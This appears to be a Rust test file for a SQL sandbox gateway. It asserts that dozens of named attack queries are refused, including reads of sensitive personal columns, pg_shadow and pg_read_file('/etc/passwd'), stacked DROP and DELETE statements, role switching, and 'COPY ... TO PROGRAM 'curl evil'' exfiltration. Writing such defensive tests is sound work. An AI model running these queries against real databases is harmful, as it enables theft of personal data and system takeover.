//! Attack queries, each a named case: every one is refused by the check, with the check and the
//! rule asserted (ZJK-19, ZJK-21). Attacks that only suppression can stop (groups of one, a WHERE
//! that singles out a person, differencing) run against a real workspace in `workspaces.rs`.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use sandbox_gateway::check::{Column, Relation, check, rules};

fn relations() -> Vec<Relation> {
    let col = |name: &str, sensitive: bool| Column { name: name.into(), sensitive };
    vec![
        Relation {
            name: "people".into(),
            unconditional: false,
            columns: vec![
                col("district", false),
                col("age", false),
                col("income", false),
                col("id_card", true),
                col("phone", true),
                col("name", true),
            ],
        },
        Relation {
            name: "bus_lines".into(),
            unconditional: true,
            columns: vec![col("line_no", false), col("stops", false), col("driver_phone", true)],
        },
    ]
}

fn refused(sql: &str) -> (String, String) {
    match check(sql, &relations(), 1000) {
        Ok(c) => panic!("accepted: {sql}\nrewritten: {}", c.sql),
        Err(r) => {
            assert!(!r.message.is_empty() && !r.hint.is_empty(), "a refusal says what and how: {r:?}");
            (r.check.to_string(), r.rule.to_string())
        }
    }
}

macro_rules! attack {
    ($($name:ident: $sql:expr => $check:literal, $rule:expr;)*) => {$(
        #[test]
        fn $name() {
            let (check, rule) = refused($sql);
            assert_eq!((check.as_str(), rule.as_str()), ($check, $rule), "{}", $sql);
        }
    )*};
}

attack! {
    select_star: "SELECT * FROM people" => "wildcard", rules::RAW_DATA;
    qualified_star: "SELECT p.* FROM people p" => "wildcard", rules::RAW_DATA;
    projecting_a_sensitive_field: "SELECT id_card FROM people" => "sensitive-field", rules::RAW_DATA;
    projecting_a_sensitive_field_beside_an_aggregate: "SELECT name, count(*) FROM people GROUP BY name" => "sensitive-field", rules::RAW_DATA;
    min_on_an_id: "SELECT district, min(id_card) FROM people GROUP BY district" => "sensitive-field", rules::RAW_DATA;
    max_on_an_id: "SELECT max(id_card) FROM people" => "sensitive-field", rules::RAW_DATA;
    string_agg_on_an_id: "SELECT string_agg(id_card, ',') FROM people" => "function", rules::CHANNEL;
    array_agg_on_a_name: "SELECT array_agg(name) FROM people" => "function", rules::CHANNEL;
    ordered_set_aggregate: "SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY age) FROM people" => "function", rules::CHANNEL;
    mode_of_a_phone: "SELECT mode() WITHIN GROUP (ORDER BY phone) FROM people" => "function", rules::CHANNEL;
    subquery_in_select: "SELECT (SELECT id_card FROM people LIMIT 1)" => "subquery", rules::CHANNEL;
    no_relation_at_all: "SELECT 1" => "relation", rules::CHANNEL;
    subquery_in_where: "SELECT count(*) FROM people WHERE age IN (SELECT age FROM people)" => "subquery", rules::CHANNEL;
    exists_subquery: "SELECT count(*) FROM people WHERE EXISTS (SELECT 1 FROM people)" => "subquery", rules::CHANNEL;
    derived_table: "SELECT count(*) FROM (SELECT id_card FROM people) t" => "relation", rules::CHANNEL;
    common_table_expression: "WITH x AS (SELECT id_card FROM people) SELECT count(*) FROM x" => "cte", rules::CHANNEL;
    union_with_system_catalog: "SELECT district FROM people UNION SELECT usename FROM pg_user" => "set-operation", rules::RAW_DATA;
    reading_pg_shadow: "SELECT count(*) FROM pg_shadow" => "relation", rules::RAW_DATA;
    schema_qualified_system_table: "SELECT count(*) FROM pg_catalog.pg_class" => "relation", rules::RAW_DATA;
    another_workspace_schema: "SELECT count(*) FROM ws_other.people" => "relation", rules::RAW_DATA;
    staged_raw_table: "SELECT count(*) FROM staged.people_v1" => "relation", rules::RAW_DATA;
    pg_read_file: "SELECT pg_read_file('/etc/passwd')" => "function", rules::CHANNEL;
    pg_read_file_beside_data: "SELECT count(*), pg_read_file('postgresql.conf') FROM people" => "function", rules::CHANNEL;
    set_config: "SELECT set_config('role', 'postgres', false)" => "function", rules::CHANNEL;
    current_setting: "SELECT current_setting('data_directory')" => "function", rules::CHANNEL;
    copy_to_program: "COPY people TO PROGRAM 'curl evil'" => "single-select", rules::CHANNEL;
    copy_to_stdout: "COPY (SELECT id_card FROM people) TO STDOUT" => "single-select", rules::CHANNEL;
    two_statements: "SELECT count(*) FROM people; DROP TABLE people" => "single-select", rules::CHANNEL;
    two_selects: "SELECT count(*) FROM people; SELECT id_card FROM people" => "single-select", rules::CHANNEL;
    statement_hidden_after_a_comment: "SELECT count(*) FROM people -- harmless\n; DELETE FROM people" => "single-select", rules::CHANNEL;
    block_comment_hiding_a_column: "SELECT /* count(*) */ id_card FROM people" => "sensitive-field", rules::RAW_DATA;
    insert: "INSERT INTO people (district) VALUES ('x')" => "single-select", rules::CHANNEL;
    update: "UPDATE people SET age = 1" => "single-select", rules::CHANNEL;
    set_role: "SET ROLE postgres" => "single-select", rules::CHANNEL;
    select_into: "SELECT district INTO leaked FROM people" => "single-select", rules::CHANNEL;
    cast_rebuilds_a_value: "SELECT CAST(id_card AS TEXT), count(*) FROM people GROUP BY 1" => "sensitive-field", rules::RAW_DATA;
    substring_rebuilds_a_value: "SELECT substring(id_card FROM 7 FOR 8) AS birth, count(*) FROM people GROUP BY birth" => "sensitive-field", rules::RAW_DATA;
    concatenation_rebuilds_a_value: "SELECT district || phone, count(*) FROM people GROUP BY 1" => "sensitive-field", rules::RAW_DATA;
    count_of_an_expression_on_a_sensitive_field: "SELECT count(substr(id_card, 1, 17)) FROM people" => "sensitive-field", rules::RAW_DATA;
    sum_over_a_sensitive_field: "SELECT sum(length(phone)) FROM people" => "sensitive-field", rules::RAW_DATA;
    group_by_a_sensitive_field: "SELECT count(*) FROM people GROUP BY id_card" => "sensitive-field", rules::RAW_DATA;
    where_singling_out_by_id: "SELECT count(*) FROM people WHERE id_card = '610101198001010001'" => "sensitive-field", rules::RAW_DATA;
    like_on_a_name: "SELECT count(*) FROM people WHERE name LIKE '王%'" => "sensitive-field", rules::RAW_DATA;
    order_by_a_sensitive_field: "SELECT district, count(*) FROM people GROUP BY district ORDER BY min(phone)" => "sensitive-field", rules::RAW_DATA;
    having_on_a_sensitive_field: "SELECT district FROM people GROUP BY district HAVING max(name) > 'A'" => "sensitive-field", rules::RAW_DATA;
    join_on_a_sensitive_field: "SELECT count(*) FROM people a JOIN people b ON a.id_card = b.id_card" => "sensitive-field", rules::RAW_DATA;
    natural_join: "SELECT count(*) FROM people NATURAL JOIN people" => "join", rules::RAW_DATA;
    offset_enumeration: "SELECT district, count(*) FROM people GROUP BY district LIMIT 1 OFFSET 3" => "offset", rules::RAW_DATA;
    rows_of_conditional_data: "SELECT district, age FROM people" => "aggregate-only", rules::RAW_DATA;
    limit_one_rows_of_conditional_data: "SELECT age FROM people LIMIT 1" => "aggregate-only", rules::RAW_DATA;
    distinct_on_picks_rows: "SELECT DISTINCT ON (district) district, age FROM people" => "distinct-on", rules::RAW_DATA;
    window_function: "SELECT district, row_number() OVER () FROM people" => "function", rules::CHANNEL;
    window_aggregate: "SELECT age, count(*) OVER (PARTITION BY district) FROM people" => "function", rules::RAW_DATA;
    rollup_totals: "SELECT district, count(*) FROM people GROUP BY ROLLUP (district)" => "totals", rules::RAW_DATA;
    grouping_sets_totals: "SELECT district, age, count(*) FROM people GROUP BY GROUPING SETS ((district), (age))" => "totals", rules::RAW_DATA;
    cast_to_regclass: "SELECT count(*) FROM people WHERE 'pg_authid'::regclass IS NOT NULL" => "cast", rules::CHANNEL;
    reserved_alias: "SELECT count(*) AS __sbx_n FROM people" => "alias", rules::CHANNEL;
    for_update: "SELECT count(*) FROM people FOR UPDATE" => "single-select", rules::CHANNEL;
    table_function: "SELECT count(*) FROM generate_series(1, 10)" => "relation", rules::CHANNEL;
    lateral_subquery: "SELECT count(*) FROM people, LATERAL (SELECT id_card) x" => "relation", rules::CHANNEL;
    schema_qualified_function: "SELECT pg_catalog.count(*) FROM people" => "function", rules::CHANNEL;
    sensitive_field_of_open_data: "SELECT driver_phone FROM bus_lines" => "sensitive-field", rules::RAW_DATA;
    open_data_joined_with_conditional_rows: "SELECT b.line_no, p.age FROM bus_lines b JOIN people p ON b.stops = p.age" => "aggregate-only", rules::RAW_DATA;
    unknown_column: "SELECT count(secret) FROM people" => "column", rules::RAW_DATA;
    placeholder: "SELECT count(*) FROM people WHERE age = $1" => "literal", rules::CHANNEL;
    not_sql: "SELEKT everything" => "parse", rules::CHANNEL;
    empty: "" => "single-select", rules::CHANNEL;
}

#[test]
fn allowed_queries_are_rewritten_not_passed_through() {
    let c = check(
        "select district, count(*) as n, count(distinct id_card), avg(income) from people /* note */ where age > 30 and income < 9000 group by district order by n desc limit 5",
        &relations(),
        1000,
    )
    .expect("accepted");
    assert_eq!(c.columns, vec!["district", "n", "count", "avg"]);
    assert!(!c.sql.contains("note"), "comments do not survive: {}", c.sql);
    assert!(c.sql.contains("FILTER (WHERE age > 30 AND income < 9000)"), "the WHERE moves into FILTER: {}", c.sql);
    assert!(c.sql.contains("__sbx_c0") && c.sql.contains("__sbx_c1"), "each AND term left out in turn: {}", c.sql);
    assert!(c.sql.contains("__sbx_n") && c.sql.contains("__sbx_total"));
    assert!(c.sql.ends_with("LIMIT 6"), "the caller's LIMIT moves outside: {}", c.sql);
    assert_eq!(c.fields, vec!["people.age", "people.district", "people.id_card", "people.income"]);
}

#[test]
fn a_single_condition_keeps_its_where_and_gets_reusable_group_totals() {
    let c = check("SELECT district, avg(age) FROM people WHERE income > 5000 GROUP BY district", &relations(), 1000)
        .expect("accepted");
    assert!(c.sql.contains("WHERE income > 5000") && !c.sql.contains("FILTER"), "{}", c.sql);
    let t = c.totals.expect("totals");
    assert_eq!(t.groups, 1);
    assert_eq!(t.key, "people GROUP BY district");
    assert!(!t.sql.contains("income > 5000"), "the totals ignore the WHERE: {}", t.sql);
    // Grouping by an output alias or position falls back to FILTER.
    let c = check(
        "SELECT age / 10 AS decade, count(*) FROM people WHERE income > 5000 GROUP BY decade",
        &relations(),
        1000,
    )
    .expect("accepted");
    assert!(c.totals.is_none() && c.sql.contains("FILTER"), "{}", c.sql);
}

#[test]
fn rows_of_unconditionally_open_non_sensitive_fields_are_allowed() {
    let c = check("SELECT line_no, stops FROM bus_lines WHERE stops > 3", &relations(), 1000).expect("accepted");
    assert_eq!(c.shape, sandbox_gateway::check::Shape::Rows);
    assert_eq!(c.fetch, 1001);
}

#[test]
fn the_gateway_row_limit_caps_the_callers() {
    let c =
        check("SELECT district, count(*) FROM people GROUP BY district LIMIT 100000", &relations(), 1000).expect("ok");
    assert_eq!(c.fetch, 1001);
}
